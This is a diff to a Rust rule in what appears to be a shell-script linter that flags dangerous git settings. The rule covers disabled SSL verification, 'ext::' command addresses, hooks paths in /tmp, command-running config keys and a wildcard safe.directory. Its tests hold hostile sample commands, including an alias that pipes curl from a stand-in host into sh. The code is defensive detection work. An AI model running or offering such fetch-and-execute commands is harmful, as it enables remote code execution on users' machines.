@@ -58,6 +58,14 @@ fn check(git: &Command, sink: &mut Sink<'_>) {
             settings.push((value.span, sink.sketch(key).text.to_lowercase(), sink.sketch(value).text));
         }
     }
+    if let Some(assignment) = git.assignments.iter().find(|it| &*it.name.text == "GIT_SSL_NO_VERIFY") {
+        settings.push((assignment.span, "http.sslverify".to_owned(), "false".to_owned()));
+    }
+    for word in git.operands() {
+        if sink.sketch(word).text.starts_with("ext::") {
+            sink.report(word.span, "this address is a command that git runs".to_owned());
+        }
+    }
     for (span, key, value) in settings {
         if let Some((message, level)) = judge(&key, &value) {
             sink.report(span, message).level(level);
@@ -66,7 +74,9 @@ fn check(git: &Command, sink: &mut Sink<'_>) {
 }
 
 fn reads(git: &Command) -> bool {
-    ["get", "get-all", "get-regexp", "unset", "unset-all", "list", "remove-section"].iter().any(|it| git.has_flag('\0', it))
+    ["get", "get-all", "get-regexp", "unset", "unset-all", "list", "remove-section"]
+        .iter()
+        .any(|it| git.has_flag('\0', it))
         || git.facts().get(2).is_some_and(|it| it.name != "set")
 }
 
@@ -76,13 +86,23 @@ fn judge(key: &str, value: &str) -> Option<(String, Level)> {
     let off = matches!(&*value.to_lowercase(), "false" | "0" | "no" | "off");
     let command = matches!(
         key,
-        "core.sshcommand" | "core.fsmonitor" | "core.editor" | "core.pager" | "credential.helper" | "core.gitproxy" | "diff.external" | "init.templatedir"
-    ) || key.starts_with("alias.") || key.starts_with("filter.");
+        "core.sshcommand"
+            | "core.fsmonitor"
+            | "core.editor"
+            | "core.pager"
+            | "credential.helper"
+            | "core.gitproxy"
+            | "diff.external"
+            | "init.templatedir"
+    ) || key.starts_with("alias.")
+        || key.starts_with("filter.");
     Some(match key {
         "safe.directory" if value == "*" => {
             ("lets every repository on this machine decide what git runs".to_owned(), Level::Caution)
         }
-        "core.hookspath" | "init.templatedir" if ["/tmp", "/var/tmp", "/dev/shm"].iter().any(|it| value.starts_with(it)) => {
+        "core.hookspath" | "init.templatedir"
+            if ["/tmp", "/var/tmp", "/dev/shm"].iter().any(|it| value.starts_with(it)) =>
+        {
             (format!("git runs hooks from `{value}`, where everyone can put some"), Level::Danger)
         }
         "protocol.ext.allow" if value == "always" => {
@@ -103,11 +123,16 @@ fn judge(key: &str, value: &str) -> Option<(String, Level)> {
 mod tests {
     use crate::rules::tests::check_marks;
 
-
     #[test]
     fn settings_are_found_in_every_place() {
-        check_marks("git config set --global safe.directory '*'\n#                                      ^^^ CARO0710\n");
-        check_marks("git clone -c core.hooksPath=/tmp/h https://x.org/a\n#            ^^^^^^^^^^^^^^^^^^^^^ CARO0710\n");
-        check_marks("git config --global alias.up '!curl -s https://x.org/a | sh'\n#                            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ CARO0710\n");
+        check_marks(
+            "git config set --global safe.directory '*'\n#                                      ^^^ CARO0710\n",
+        );
+        check_marks(
+            "git clone -c core.hooksPath=/tmp/h https://x.org/a\n#            ^^^^^^^^^^^^^^^^^^^^^ CARO0710\n",
+        );
+        check_marks(
+            "git config --global alias.up '!curl -s https://x.org/a | sh'\n#                            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ CARO0710\n",
+        );
     }
 }
